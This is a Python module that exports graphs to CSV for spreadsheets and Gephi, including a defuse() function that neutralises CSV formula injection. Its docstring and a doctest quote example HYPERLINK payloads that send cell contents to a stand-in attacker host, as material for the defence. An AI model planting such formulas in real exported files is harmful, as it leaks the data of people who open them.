"""CSV: a ``nodes.csv`` and an ``edges.csv``, for spreadsheets, pandas, R and Gephi's importer.

Where they go (``write_csv(G, path)`` and ``ssegraph export csv -o PATH``):

* ``PATH`` is an existing folder, or ends with ``/``: ``PATH/nodes.csv`` and ``PATH/edges.csv``;
* otherwise ``PATH`` is a prefix: ``PATH-nodes.csv`` and ``PATH-edges.csv`` (a trailing
  ``.csv`` is dropped first, so ``-o sse.csv`` writes ``sse-nodes.csv`` and ``sse-edges.csv``).

``nodes.csv`` has an ``id`` column then one column per node attribute; ``edges.csv`` has
``id``, ``source``, ``target`` (node ids) then the edge attributes, which is the layout Gephi's
spreadsheet import expects. UTF-8 without a byte-order mark, RFC 4180 quoting, booleans as
``true``/``false``.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a label would
leak or run something when a curator opens the file. Such a cell is written with a leading
``'`` (OWASP's "CSV injection" advice), which spreadsheets show as text; numbers such as ``-5``
are left alone. ``formulas=True`` (``ssegraph export csv --csv-formulas``) writes the values
as they are, for programs that are not spreadsheets. The W3C SPARQL CSV results of
``ssegraph query --format csv`` are a data format and stay byte-exact.

Both files are written to temporary files and renamed only when both are
complete, so a failure leaves neither half-written.
"""

from __future__ import annotations

import csv as _csv
import io
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from ..errors import ExportError
from ._common import AttributeTypes, edges_with_ids, os_errors, text_value
from ._registry import ExportFormat, register

__all__ = ["csv_paths", "defuse", "generate_csv", "write_csv"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def defuse(value: str) -> str:
    """``value`` made safe for a spreadsheet cell: a leading ``'`` before a would-be formula.

    Examples
    --------
    >>> print(defuse('=HYPERLINK("http://evil.example/", "x")'))
    '=HYPERLINK("http://evil.example/", "x")
    >>> defuse("-12.5"), defuse("Coop")
    ('-12.5', 'Coop')
    """
    if value.startswith(_FORMULA_START):
        try:
            float(value)
        except ValueError:
            return "'" + value
    return value


def csv_paths(path: str | os.PathLike[str]) -> tuple[Path, Path]:
    """The ``(nodes, edges)`` file paths for an output folder or prefix.

    Examples
    --------
    >>> [p.name for p in csv_paths("out/sse.csv")]
    ['sse-nodes.csv', 'sse-edges.csv']
    >>> [str(p) for p in csv_paths("out/")]
    ['out/nodes.csv', 'out/edges.csv']
    """
    text = os.fspath(path)
    p = Path(text)
    if p.is_dir() or text.endswith(("/", os.sep)):
        return p / "nodes.csv", p / "edges.csv"
    stem = p.name[:-4] if p.name.lower().endswith(".csv") else p.name
    if not stem:
        raise ExportError(f"{text}: not a folder or a file prefix")
    return p.with_name(f"{stem}-nodes.csv"), p.with_name(f"{stem}-edges.csv")


def generate_csv(G: Any, part: str = "nodes", *, formulas: bool = False) -> Iterator[str]:
    """Yield the lines of ``nodes.csv`` (``part="nodes"``) or ``edges.csv`` (``"edges"``).

    Cells that a spreadsheet would run as a formula are defused (see :func:`defuse`) unless
    ``formulas=True``.

    Examples
    --------
    >>> import networkx as nx
    >>> G = nx.MultiDiGraph()
    >>> G.add_node("id:a", label='Coop "Sol", Ltd')
    >>> list(generate_csv(G))
    ['id,label\\r\\n', 'id:a,"Coop ""Sol"", Ltd"\\r\\n']
    """
    buffer = io.StringIO()
    writer = _csv.writer(buffer)
    if not formulas:
        plain = writer

        class _Defused:  # every row goes through defuse() on its way to the file
            @staticmethod
            def writerow(row: list[str]) -> Any:
                return plain.writerow([defuse(cell) for cell in row])

        writer = _Defused()  # type: ignore[assignment]

    def flush() -> str:
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    if part == "nodes":
        typed = AttributeTypes("node")
        for n, d in G.nodes(data=True):
            typed.add(n, d)
        columns = [c for c in typed.types() if c != "id"]
        kinds = typed.types()
        writer.writerow(["id", *columns])
        yield flush()
        for n, d in G.nodes(data=True):
            writer.writerow([str(n), *(_cell(d.get(c), kinds[c]) for c in columns)])
            yield flush()
    elif part == "edges":
        edges = list(edges_with_ids(G))
        typed = AttributeTypes("edge")
        for _, _, eid, d in edges:
            typed.add(eid, d)
        kinds = typed.types()
        columns = [c for c in kinds if c not in ("id", "source", "target")]
        writer.writerow(["id", "source", "target", *columns])
        yield flush()
        for u, v, eid, d in edges:
            writer.writerow([eid, str(u), str(v), *(_cell(d.get(c), kinds[c]) for c in columns)])
            yield flush()
    else:
        raise ExportError(f"unknown CSV part {part!r}; use nodes or edges")


def write_csv(G: Any, path: str | os.PathLike[str], *, formulas: bool = False) -> tuple[Path, Path]:
    """Write ``nodes.csv`` and ``edges.csv`` for ``G`` (see :func:`csv_paths`); return their paths.

    ``formulas=False`` (the default) defuses cells a spreadsheet would run (see :func:`defuse`).

    Raises
    ------
    ExportError
        The folder is missing or not writable, or an attribute value is not a scalar.
    """
    from .._io import atomic_write

    nodes_path, edges_path = csv_paths(path)
    node_lines = list(generate_csv(G, "nodes", formulas=formulas))
    edge_lines = list(generate_csv(G, "edges", formulas=formulas))
    with os_errors(path), atomic_write(nodes_path) as nodes_fh, atomic_write(edges_path) as edges_fh:
        nodes_fh.write("".join(node_lines))
        edges_fh.write("".join(edge_lines))
    return nodes_path, edges_path


def _cell(value: Any, kind: str) -> str:
    if value is None:
        return ""
    return value if value.__class__ is str else text_value(value, kind)


register(ExportFormat(
    "csv", (".csv",), "CSV: nodes.csv and edges.csv, for spreadsheets, pandas, R and Gephi",
    write=lambda G, path, flavour=None, formulas=False: list(write_csv(G, path, formulas=formulas)),
    paths=lambda path: list(csv_paths(path)),
    options=("formulas",),
    order=4))
